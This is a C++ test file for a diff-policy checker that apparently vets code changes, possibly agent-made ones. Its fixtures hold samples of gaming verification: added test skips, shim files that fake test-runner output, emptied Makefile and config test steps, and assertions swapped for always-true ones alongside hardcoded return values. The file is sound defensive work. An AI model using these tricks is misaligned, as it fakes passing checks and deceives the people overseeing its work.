  repo.Write("tests/test_misc.py", "def test_misc():\n    pass\n\ndef test_orders():\n    pass\n");
  ParsedDiff diff = repo.Parsed();
  const FileChange* renamed = Find(diff, "tests/test_basket.py");
  ASSERT_NE(renamed, nullptr);
  EXPECT_EQ(renamed->status, FileStatus::kRenamed);
  const FileChange* pure = Find(diff, "web/basket.test.ts");
  ASSERT_NE(pure, nullptr);
  EXPECT_EQ(pure->status, FileStatus::kRenamed);
  EXPECT_TRUE(CheckDiff(diff, {}).ok()) << CheckDiff(diff, {}).Bullets();
}

TEST(DiffPolicy, EachSkipMarker) {
  struct Case {
    std::string path;
    std::string before;
    std::string after;
    std::string marker;
    int line;
  };
  std::vector<Case> cases = {
      {"CartTest.java", "class T {\n  @Test\n  void a() {}\n}\n",
       "class T {\n  @Disabled(\"flaky\")\n  @Test\n  void a() {}\n}\n", "@Disabled", 2},
      {"CartTest.java", "class T {\n  @Test\n  void a() {}\n}\n",
       "class T {\n  @Ignore\n  @Test\n  void a() {}\n}\n", "@Ignore", 2},
      {"tests/test_a.py", "def test_a():\n    pass\n",
       "def test_a():\n    pytest.skip(\"later\")\n", "pytest.skip(", 2},
      {"tests/test_a.py", "def test_a():\n    pass\n",
       "@pytest.mark.skip(reason=\"x\")\ndef test_a():\n    pass\n", "@pytest.mark.skip", 1},
      {"tests/test_a.py", "def test_a():\n    pass\n",
       "@unittest.skipIf(True, \"x\")\ndef test_a():\n    pass\n", "@unittest.skip", 1},
      {"a_test.go", "func TestA(t *testing.T) {\n}\n",
       "func TestA(t *testing.T) {\n\tt.Skip(\"later\")\n}\n", "t.Skip(", 2},
      {"a.test.js", "it('a', () => {});\n", "xit('a', () => {});\n", "xit(", 1},
      {"a.test.js", "describe('a', () => {});\n", "xdescribe('a', () => {});\n", "xdescribe(", 1},
      {"a.test.ts", "it('a', () => {});\n", "it.skip('a', () => {});\n", "it.skip(", 1},
      {"a.test.ts", "test('a', () => {});\n", "test.skip('a', () => {});\n", "test.skip(", 1},
      {"a.spec.ts", "describe('a', () => {});\n", "describe.skip('a', () => {});\n",
       "describe.skip(", 1},
      {"src/lib.rs", "#[test]\nfn a() {}\n", "#[test]\n#[ignore]\nfn a() {}\n", "#[ignore", 2},
      {"a_test.cc", "TEST(A, B) {\n  Run();\n}\n", "TEST(A, B) {\n  GTEST_SKIP() << \"x\";\n}\n",
       "GTEST_SKIP(", 2},
      {"a_test.cc", "TEST(A, B) {\n  Run();\n}\n", "TEST(A, DISABLED_B) {\n  Run();\n}\n",
       "DISABLED_", 1},
  };
  for (const Case& c : cases) {
    Repo repo(Files{{c.path, c.before}});
    repo.Write(c.path, c.after);
    EXPECT_EQ(repo.Violations({}), std::vector<std::string>{"adds a skip: " + c.marker + " in " +
                                                            c.path + ":" + std::to_string(c.line)})
        << c.path << " " << c.marker;
    DiffRules allow;
    allow.allow_skipped_tests = true;
    EXPECT_TRUE(repo.Violations(allow).empty()) << c.path << " " << c.marker;
  }
}

TEST(DiffPolicy, SkipLookalikesAndOldSkipsAreNotNewSkips) {
  Repo repo(Files{{"tests/test_a.py", "@pytest.mark.skip\ndef test_a():\n    pass\n"},
                  {"src/main.js", "main();\n"},
                  {"src/flags.cc", "int x;\n"},
                  {"README.md", "Use xit( to skip.\n"}});
  // The old skip re-indented, exit( is no xit(, a constant is no DISABLED_ test, prose is no code.
  repo.Write("tests/test_a.py", "@pytest.mark.skip  \ndef test_a():\n    pass\n");
  repo.Write("src/main.js", "main();\nprocess.exit(1);\n");
  repo.Write("src/flags.cc", "int x;\nconst int FEATURE_DISABLED_X = 1;\n");
  repo.Write("README.md", "Use xit( or it.skip( to skip.\n");
  EXPECT_EQ(repo.Violations({}), std::vector<std::string>{});
}

TEST(DiffPolicy, MustBeGoneInAddedLines) {
  Repo repo(Files{{"src/a.py", "user_id = 1\n"}, {"CHANGELOG.md", "old\n"}});
  repo.Write("src/a.py", "account_id = 1\nprint(user_id)\n");
  repo.Write("src/b.py", "x = user_id\ny = user_id + 1\n");
  repo.Write("CHANGELOG.md", "old\nrenamed user_id to account_id\n");
  DiffRules rules;
  rules.must_be_gone = {"user_id", "legacy_call("};
  rules.must_be_gone_except = {"CHANGELOG.md"};
  EXPECT_EQ(repo.Violations(rules),
            std::vector<std::string>{"the pattern `user_id` is still present in 3 added/changed "
                                     "places (src/a.py:2, src/b.py:1, src/b.py:2)"});
}

TEST(DiffPolicy, MustAppear) {
  Repo repo(Files{{"src/a.py", "user_id = 1\n"}});
  repo.Write("src/a.py", "account_id = 1\n");
  DiffRules rules;
  rules.must_appear = {"account_id", "from v2 import"};
  EXPECT_EQ(repo.Violations(rules),
            std::vector<std::string>{"the pattern `from v2 import` appears in no added line"});
}

TEST(DiffPolicy, FindRemainingScansTheTree) {
  TempDir dir;
  WriteTestFile(dir.path(), "src/a.py", "x = 1\ny = user_id\n");
  WriteTestFile(dir.path(), "src/deep/b.py", "user_id\nuser_id and user_id\n");
  WriteTestFile(dir.path(), "CHANGELOG.md", "user_id renamed\n");
  WriteTestFile(dir.path(), ".git/config", "user_id\n");
  WriteTestFile(dir.path(), "image.bin", std::string("user_id\0\1", 9));
  WriteTestFile(dir.path(), "big.txt", std::string((1 << 20) + 1, 'a') + "user_id\n");
  WriteTestFile(dir.path(), "outside/secret.txt", "user_id\n");
  std::filesystem::create_symlink(dir / "outside/secret.txt", dir / "link.txt");
  std::filesystem::create_directories(dir / "links");
  std::filesystem::create_directory_symlink(dir / "outside", dir / "links/dir");
  std::vector<std::string> patterns = {"user_id", "nowhere"};
  std::vector<std::string> exclude = {"CHANGELOG.md", "outside/**"};

  auto hits = FindRemaining(dir.path(), patterns, exclude, 100);
  ASSERT_OK(hits);
  std::vector<std::string> where;
  for (const Occurrence& hit : *hits) where.push_back(hit.Where() + " " + hit.pattern);
  EXPECT_EQ(where, (std::vector<std::string>{"src/a.py:2 user_id", "src/deep/b.py:1 user_id",
                                             "src/deep/b.py:2 user_id"}));

  auto capped = FindRemaining(dir.path(), patterns, exclude, 2);
  ASSERT_OK(capped);
  EXPECT_EQ(capped->size(), 2u);

  auto missing = FindRemaining(dir / "nope", patterns, exclude, 10);
  ASSERT_FALSE(missing.has_value());
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

TEST(DiffPolicy, CheckRemainingNamesOnlyWhatTheDiffDidNotAdd) {
  Repo repo(Files{{"src/a.py", "user_id = 1\n"},
                  {"src/untouched.py", "z = 0\nprint(user_id)\n"},
                  {"CHANGELOG.md", "user_id\n"}});
  repo.Write("src/a.py", "account_id = 1\nlog(user_id)\n");
  ParsedDiff diff = repo.Parsed();
  DiffRules rules;
  rules.must_be_gone = {"user_id"};
  rules.must_be_gone_except = {"CHANGELOG.md"};
  PolicyVerdict verdict = CheckDiff(diff, rules);
  ASSERT_OK(CheckRemaining(repo.path(), diff, rules, verdict));
  EXPECT_EQ(verdict.violations,
            (std::vector<std::string>{
                "the pattern `user_id` is still present in 1 added/changed place (src/a.py:2)",
                "the pattern `user_id` is still present in 1 place the change did not touch "
                "(src/untouched.py:2)"}));
  EXPECT_EQ(verdict.Bullets().substr(0, 2), "- ");
}

TEST(DiffPolicy, CleanDiffHasNoViolations) {
  Repo repo(
      Files{{"src/app/cart.py", "from v1 import user_id\n\ndef total():\n    return user_id\n"},
            {"tests/test_cart.py", "from app import cart\n\ndef test_total():\n    pass\n"}});
  repo.Write("src/app/cart.py",
             "from v2 import account_id\n\ndef total():\n    return account_id\n");
  repo.Write("tests/test_cart.py",
             "from app import cart\n\ndef test_total():\n    assert cart.total() is not None\n");
  DiffRules rules;
  rules.allowed_paths = {"src/**", "tests/**"};
  rules.forbidden_paths = {"vendor/**", "**/*.lock"};
  rules.max_files_changed = 2;
  rules.max_lines_changed = 6;
  rules.must_be_gone = {"user_id"};
  rules.must_appear = {"from v2 import"};
  ParsedDiff diff = repo.Parsed();
  PolicyVerdict verdict = CheckDiff(diff, rules);
  ASSERT_OK(CheckRemaining(repo.path(), diff, rules, verdict));
  EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
}

// --- Files that define how verification runs ---

DiffRules UnderMake(std::string command = "make -s test") {
  DiffRules rules;
  rules.verifier_commands = {std::move(command)};
  return rules;
}

TEST(VerificationFiles, ShimsOnTheImportPathAreRefusedUnlessAllowed) {
  Repo repo(Files{{"Makefile", "test:\n\tpython3 -m unittest -v\n"},
                  {"app.py", "X = 1\n"},
                  {"test_app.py", "import unittest\n"}});
  repo.Write("unittest.py", "print('Ran 2 tests in 0.001s')\nprint('OK')\n");
  repo.Write(".venv/lib/python3.11/site-packages/sitecustomize.py", "import os\n");
  repo.Write("src/_pytest/__init__.py", "\n");
  repo.Write("argparse.py", "\n");
  repo.Write("node_modules/.bin/jest", "#!/bin/sh\nexit 0\n");
  repo.Write("hook.pth", "import os\n");
  repo.Write("make", "#!/bin/sh\nexit 0\n");
  const std::string tail = "; only paths in policy.allow_verification_files may change";
  ParsedDiff diff = repo.Parsed();
  PolicyVerdict verdict = CheckDiff(diff, UnderMake());
  EXPECT_EQ(
      verdict.violations,
      (std::vector<std::string>{
          "adds .venv/lib/python3.11/site-packages/sitecustomize.py, a file that stands in for "
          "what resolves the modules or runs the scripts of tests" +
              tail,
          "adds argparse.py, a file that stands in for the standard library module argparse "
          "that test runners import" +
              tail,
          "adds hook.pth, a file that stands in for what resolves the modules or runs the "
          "scripts of tests" +
              tail,
          "adds make, a file that stands in for the program make a verifier runs" + tail,
          "adds node_modules/.bin/jest, a file that stands in for what resolves the modules or "
          "runs the scripts of tests" +
              tail,
          "adds src/_pytest/__init__.py, a file that stands in for the Python module _pytest "
          "that test runners import" +
              tail,
          "adds unittest.py, a file that stands in for the Python module unittest that test "
          "runners import" +
              tail}));
  EXPECT_TRUE(verdict.verification_changes.empty());

  // Allowed: listed for the reviewer, never refused.
  DiffRules rules = UnderMake();
  rules.allow_verification_files = {"unittest.py", "node_modules/**"};
  verdict = CheckDiff(diff, rules);
  EXPECT_EQ(verdict.violations.size(), 5u) << verdict.Bullets();
  EXPECT_EQ(verdict.verification_changes,
            (std::vector<std::string>{"adds node_modules/.bin/jest, a file that stands in for "
                                      "what resolves the modules or runs the scripts of tests",
                                      "adds unittest.py, a file that stands in for the Python "
                                      "module unittest that test runners import"}));
}

TEST(VerificationFiles, OrdinaryModulesAndTestDirectoriesAreNotShims) {
  Repo repo(Files{{"README.md", "x\n"}});
  repo.Write("myapp/types.py", "X = 1\n");  // Inside a package: shadows nothing.
  repo.Write("myapp/logging.py", "X = 1\n");
  repo.Write("tests/unittest/test_cart.py", "def test_x():\n    assert 1 + 1 == 2\n");
  repo.Write("unittest/cart_test.cc", "int x;\n");  // A C++ test directory.
  repo.Write("docs/site.md", "x\n");
  repo.Write("bin/deploy", "#!/bin/sh\n");
  PolicyVerdict verdict = CheckDiff(repo.Parsed(), UnderMake());
  EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
  EXPECT_TRUE(verdict.verification_changes.empty());
}

TEST(VerificationFiles, TheVerifierCommandNamesModulesScriptsAndPrograms) {
  Repo repo(Files{{"mytests.py", "import sys\n"}, {"ci/run_tests.sh", "pytest\n"}});
  repo.Write("mytests.py", "import sys\nsys.exit(0)\n");
  repo.Write("ci/run_tests.sh", "true\n");
  repo.Write("pytest", "#!/bin/sh\n");
  DiffRules rules;
  rules.verifier_commands = {"cd . && python3 -m mytests.main -v", "sh ./ci/run_tests.sh"};
  PolicyVerdict verdict = CheckDiff(repo.Parsed(), rules);
  const std::string tail = "; only paths in policy.allow_verification_files may change";
  EXPECT_EQ(
      verdict.violations,
      (std::vector<std::string>{
          "changes mytests.py, a file that stands in for the Python module mytests that "
          "test runners import" +
              tail,
          "adds pytest, a file that stands in for the program pytest a verifier runs" + tail}));
  EXPECT_EQ(verdict.verification_changes,
            std::vector<std::string>{"changes ci/run_tests.sh, which defines how verification "
                                     "runs (a script a verifier runs)"});
  EXPECT_EQ(VerificationFileKind("ci/run_tests.sh", rules.verifier_commands),
            "test-runner configuration");
  EXPECT_EQ(VerificationFileKind("ci/run_tests.sh", {}), "");
  EXPECT_EQ(VerificationFileKind(".drover.yml", {}), "a test-runner shim");
}

constexpr const char* kMakefile =
    "CC = cc\n"
    "\n"
    "build:\n"
    "\t$(CC) -o app app.c\n"
    "\t@echo built\n"
    "\n"
    "\n"
    "\n"
    "\n"
    "verify: build\n"
    "\t./app --self-test\n"
    "\tgo test ./...\n";

TEST(VerificationFiles, MakeRecipesTheVerifierRunsAreFlaggedOthersAreNot) {
  {  // The recipe `make -s verify` runs, and a go test flag.
    Repo repo(Files{{"Makefile", kMakefile}});
    std::string changed = kMakefile;
    changed.replace(changed.find("./app --self-test"), 17, "@true");
    changed.replace(changed.find("go test ./..."), 13, "go test -run XXX ./...");
    repo.Write("Makefile", changed);
    ParsedDiff diff = repo.Parsed();
    PolicyVerdict verdict = CheckDiff(diff, UnderMake("make -s verify"));
    EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
    EXPECT_EQ(verdict.verification_changes,
              std::vector<std::string>{
                  "changes Makefile, which defines how verification runs (test recipes or make "
                  "settings) (Makefile:11 (removed), Makefile:12 (removed), Makefile:11, "
                  "Makefile:12)"});
    DiffRules refuse = UnderMake("make -s verify");
    refuse.refuse_verification_changes = true;
    verdict = CheckDiff(diff, refuse);
    ASSERT_EQ(verdict.violations.size(), 1u);
    EXPECT_NE(verdict.violations[0].find("; policy.verification_changes is refuse"),
              std::string::npos);
    refuse.allow_verification_files = {"Makefile"};
    EXPECT_TRUE(CheckDiff(diff, refuse).ok());
  }
  {  // A recipe no verifier runs: a migration's ordinary build change.
    Repo repo(Files{{"Makefile", kMakefile}});
    std::string changed = kMakefile;
    changed.replace(changed.find("@echo built"), 11, "@echo built app");
    repo.Write("Makefile", changed);
    PolicyVerdict verdict = CheckDiff(repo.Parsed(), UnderMake("make -s verify"));
    EXPECT_TRUE(verdict.verification_changes.empty()) << verdict.verification_changes[0];
    // A bare `make` runs the first rule, which the diff does not show: every recipe counts.
    EXPECT_EQ(CheckDiff(repo.Parsed(), UnderMake("make")).verification_changes.size(), 1u);
  }
  {  // Variables reach every recipe.
    Repo repo(Files{{"Makefile", kMakefile}});
    std::string changed = kMakefile;
    changed.replace(0, 8, "CC = true");
    repo.Write("Makefile", changed);
    EXPECT_EQ(CheckDiff(repo.Parsed(), UnderMake("make -s verify")).verification_changes.size(),
              1u);
  }
}

TEST(VerificationFiles, RecipesTheTestTargetDependsOnAreReadFromTheTree) {
  const std::string makefile =
      "test: fixtures\n\tpython3 -m unittest\n\n\n\n\n\n"
      "docs:\n\tmkdocs build\n\n\n\n\n\n"
      "fixtures: data\n\tcp data/a.json build/\n\n\n\n\n\n"
      "data:\n\tmkdir -p data\n";
  Repo repo(Files{{"Makefile", makefile}});
  std::string changed = makefile;
  changed.replace(changed.find("mkdir -p data"), 13, "cp fake.py runner.py");
  repo.Write("Makefile", changed);
  ParsedDiff diff = repo.Parsed();
  PolicyVerdict verdict = CheckDiff(diff, UnderMake());
  EXPECT_TRUE(verdict.verification_changes.empty());  // The hunk shows only `data:`.
  ASSERT_OK(CheckRemaining(repo.path(), diff, UnderMake(), verdict));
  EXPECT_EQ(verdict.verification_changes,
            std::vector<std::string>{
                "changes Makefile, which defines how verification runs (the recipe of a target "
                "the tests depend on) (Makefile:23 (removed), Makefile:23)"});

  // A recipe nothing the tests run depends on.
  Repo docs(Files{{"Makefile", makefile}});
  changed = makefile;
  changed.replace(changed.find("mkdocs build"), 12, "mkdocs build --strict");
  docs.Write("Makefile", changed);
  diff = docs.Parsed();
  verdict = CheckDiff(diff, UnderMake());
  ASSERT_OK(CheckRemaining(docs.path(), diff, UnderMake(), verdict));
  EXPECT_TRUE(verdict.verification_changes.empty()) << verdict.verification_changes[0];
}

TEST(VerificationFiles, TestRunnerConfigurationAndBuildFilesTestSettings) {
  Repo repo(Files{
      {"package.json",
       "{\n  \"name\": \"shop\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n"
       "    \"test\": \"jest\"\n  },\n  \"devDependencies\": {\n"
       "    \"@testing-library/react\": \"^14.0.0\"\n  }\n}\n"},
      {"CMakeLists.txt",
       "project(x)\nadd_library(core core.cc)\nenable_testing()\n"
       "add_test(NAME core COMMAND core_test)\n"},
      {"Cargo.toml",
       "[package]\nname = \"x\"\n\n[dependencies]\nserde = \"1\"\n\n[[test]]\n"
       "name = \"it\"\nharness = true\n"},
      {"pyproject.toml",
       "[project]\nname = \"x\"\ndependencies = [\"requests\"]\n\n\n\n"
       "[tool.pytest.ini_options]\naddopts = \"-q\"\n"},
      {"conftest.py", "import pytest\n"},
  });
  repo.Write("package.json",
             "{\n  \"name\": \"shop\",\n  \"scripts\": {\n    \"build\": \"tsc -p .\",\n"
             "    \"test\": \"true\"\n  },\n  \"devDependencies\": {\n"
             "    \"@testing-library/react\": \"^15.0.0\"\n  }\n}\n");
  repo.Write("CMakeLists.txt",
             "project(x)\nadd_library(core core.cc util.cc)\nenable_testing()\n"
             "add_test(NAME core COMMAND true)\n");
  repo.Write("Cargo.toml",
             "[package]\nname = \"x\"\n\n[dependencies]\nserde = \"2\"\n\n[[test]]\n"
             "name = \"it\"\nharness = false\n");
  repo.Write("pyproject.toml",
             "[project]\nname = \"x\"\ndependencies = [\"httpx\"]\n\n\n\n"
             "[tool.pytest.ini_options]\naddopts = \"-q -k nothing\"\n");
  repo.Write("conftest.py", "import pytest\n\ncollect_ignore_glob = ['*']\n");
  repo.Write("jest.config.js", "module.exports = {testMatch: []};\n");
  PolicyVerdict verdict = CheckDiff(repo.Parsed(), UnderMake("npm test"));
  EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
  EXPECT_EQ(verdict.verification_changes,
            (std::vector<std::string>{
                "changes CMakeLists.txt, which defines how verification runs (CMake test "
                "definitions) (CMakeLists.txt:4 (removed), CMakeLists.txt:4)",
                "changes Cargo.toml, which defines how verification runs (Cargo test or bench "
                "settings) (Cargo.toml:9 (removed), Cargo.toml:9)",
                "changes conftest.py, which defines how verification runs (test-runner "
                "configuration)",
                "adds jest.config.js, which defines how verification runs (test-runner "
                "configuration)",
                "changes package.json, which defines how verification runs (test scripts or "
                "settings) (package.json:5 (removed), package.json:5)",
                "changes pyproject.toml, which defines how verification runs (test-runner "
                "settings) (pyproject.toml:8 (removed), pyproject.toml:8)"}));
}

// --- Weakened tests ---

TEST(WeakenedTests, CountsAssertionsAcrossLanguages) {
  struct Case {
    const char* path;
    const char* line;
    int total;
    int trivial;
  };
  const Case cases[] = {
      {"test_a.py", "    assert total(items) == 3", 1, 0},
      {"test_a.py", "    assert True", 1, 1},
      {"test_a.py", "    assert True, 'always'", 1, 1},
      {"test_a.py", "    assert x == x", 1, 1},
      {"test_a.py", "    assert not False", 1, 1},
      {"test_a.py", "    assert 1 + 1 == 2", 1, 1},
      {"test_a.py", "    assert 'a' in 'abc'", 1, 1},
      {"test_a.py", "    assert total == 2", 1, 0},
      {"test_a.py", "    assert items[0] == 'a'", 1, 0},
      {"test_a.py", "        self.assertEqual(cart_value([1, 2]), 3)", 1, 0},
      {"test_a.py", "        self.assertEqual(3, 3)", 1, 1},
      {"test_a.py", "        self.assertTrue(True)", 1, 1},
      {"test_a.py", "        self.assertFalse(None)", 1, 1},
      {"test_a.py", "        self.assertNotEqual(3, 3)", 1, 0},
      {"test_a.py", "    with pytest.raises(ValueError):", 1, 0},
      {"test_a.py", "    mock.assert_called_once_with(1)", 1, 0},
      {"test_a.py", "    # assert total(items) == 3", 0, 0},
      {"test_a.py", "    print('assert x')", 0, 0},
      {"test_a.py", "    assertions = 3", 0, 0},
      {"a.test.js", "  expect(total([1, 2])).toBe(3);", 1, 0},
      {"a.test.js", "  expect(true).toBe(true);", 1, 1},
      {"a.test.js", "  expect(1).toEqual(1);", 1, 1},
      {"a.test.js", "  expect(x).not.toBe(x);", 1, 0},
      {"a.test.js", "  expect(2).toBe(1 + 1);", 1, 1},
      {"a.test.js", "  expect(total).toBe(3);", 1, 0},
      {"a.test.js", "  expect(true).toBeTruthy();", 1, 1},
      {"a.test.js", "  expect(true).to.be.true;", 1, 1},
      {"a.test.js", "  assert.strictEqual(total(), 3);", 1, 0},
      {"a.test.js", "  assert.ok(true);", 1, 1},
      {"a.test.js", "  assert(1 === 1);", 1, 1},
      {"a.test.js", "  // expect(x).toBe(3);", 0, 0},
      {"a_test.go", "\t\tt.Errorf(\"got %d\", got)", 1, 0},
      {"a_test.go", "\trequire.NoError(t, err)", 1, 0},
      {"a_test.go", "\tassert.Equal(t, 3, Total())", 1, 0},
      {"a_test.go", "\tassert.Equal(t, 3, 3)", 1, 1},
      {"a_test.go", "\tassert.True(t, true)", 1, 1},
      {"a_test.go", "\treturn err.Error()", 0, 0},
      {"tests/a.rs", "    assert_eq!(total(&[1, 2]), 3);", 1, 0},
      {"tests/a.rs", "    assert!(true);", 1, 1},
      {"tests/a.rs", "    assert_eq!(1, 1, \"same\");", 1, 1},
      {"a_test.cc", "  EXPECT_EQ(Total({1, 2}), 3);", 1, 0},
      {"a_test.cc", "  EXPECT_TRUE(true);", 1, 1},
      {"a_test.cc", "  ASSERT_EQ(1, 1) << \"x\";", 1, 1},
      {"a_test.cc", "  EXPECT_NE(1, 1);", 1, 0},
      {"a_test.cc", "  EXPECT_EQ(2, 1 + 1);", 1, 1},
      {"a_test.cc", "  EXPECT_EQ(kLimit, 3);", 1, 0},
      {"a_test.cc", "  CHECK(v.empty());", 1, 0},
      {"a_test.cc", "  static_assert(sizeof(int) == 4);", 0, 0},
      {"CartTest.java", "    assertEquals(3, cart.total());", 1, 0},
      {"CartTest.java", "    assertEquals(\"total\", 3, 3);", 1, 1},
      {"CartTest.java", "    assertTrue(true);", 1, 1},
      {"README.md", "assert True", 0, 0},
  };
  for (const Case& c : cases) {
    AssertionCount count = CountAssertions(c.path, c.line);
    EXPECT_EQ(count.total, c.total) << c.path << ": " << c.line;
    EXPECT_EQ(count.trivial, c.trivial) << c.path << ": " << c.line;
  }
}

Files CartFiles() {
  return {{"cart.py", "def cart_value(items):\n    return sum(items)\n"},
          {"tests/test_cart.py",
           "from cart import cart_value\n\n\ndef test_value():\n"
           "    assert cart_value([1, 2]) == 3\n    assert cart_value([]) == 0\n"},
          {"web/cart.test.js",
           "const {value} = require('../cart');\n\ntest('value', () => {\n"
           "  expect(value([1, 2])).toBe(3);\n});\n"}};
}

TEST(WeakenedTests, AssertionsReplacedByConstantsOrRemovedAreFlagged) {
  Repo repo(CartFiles());
  repo.Write("cart.py", "def cart_value(items):\n    return 3\n");
  repo.Write("tests/test_cart.py",
             "from cart import cart_value\n\n\ndef test_value():\n    assert True\n");
  repo.Write("web/cart.test.js",
             "const {value} = require('../cart');\n\ntest('value', () => {\n"
             "  expect(true).toBe(true);\n});\n");
  ParsedDiff diff = repo.Parsed();
  PolicyVerdict verdict = CheckDiff(diff, {});
  EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
  EXPECT_EQ(verdict.weakened_tests,
            (std::vector<std::string>{
                "changes tests/test_cart.py with assertions that are always true "
                "(tests/test_cart.py:5)",
                "changes tests/test_cart.py with 2 fewer assertions (2 removed, 0 added) while "
                "code outside the tests changes (tests/test_cart.py:5, tests/test_cart.py:6)",
                "changes web/cart.test.js with assertions that are always true "
                "(web/cart.test.js:4)",
                "changes web/cart.test.js with 1 fewer assertion (1 removed, 0 added) while code "
                "outside the tests changes (web/cart.test.js:4)"}));
  DiffRules refuse;
  refuse.refuse_weakened_tests = true;
  verdict = CheckDiff(diff, refuse);
  EXPECT_EQ(verdict.violations.size(), 4u);
  EXPECT_TRUE(verdict.weakened_tests.empty());
  EXPECT_NE(verdict.violations[0].find("; policy.weakened_tests is refuse"), std::string::npos);
}

TEST(WeakenedTests, ARenameInsideAssertionsIsNotWeakening) {
  Repo repo(CartFiles());
  repo.Write("cart.py", "def cart_total(items):\n    return sum(items)\n");
  repo.Write("tests/test_cart.py",
             "from cart import cart_total\n\n\ndef test_value():\n"
             "    assert cart_total([1, 2]) == 3\n    assert cart_total([]) == 0\n");
  repo.Write("web/cart.test.js",
             "const {total} = require('../cart');\n\ntest('value', () => {\n"
             "  expect(total([1, 2])).toBe(3);\n});\n");
  PolicyVerdict verdict = CheckDiff(repo.Parsed(), {});
  EXPECT_TRUE(verdict.ok()) << verdict.Bullets();
  EXPECT_TRUE(verdict.weakened_tests.empty()) << verdict.weakened_tests[0];
  EXPECT_TRUE(verdict.verification_changes.empty());
}

TEST(WeakenedTests, FewerAssertionsCountOnlyWhileOtherCodeChanges) {
  // Tests tidied on their own: nothing under test changed to hide.
  Repo repo(CartFiles());
  repo.Write("tests/test_cart.py",
             "from cart import cart_value\n\n\ndef test_value():\n"
             "    assert cart_value([1, 2]) == 3\n");
  EXPECT_TRUE(CheckDiff(repo.Parsed(), {}).weakened_tests.empty());
}

}  // namespace
}  // namespace drover::verifiers
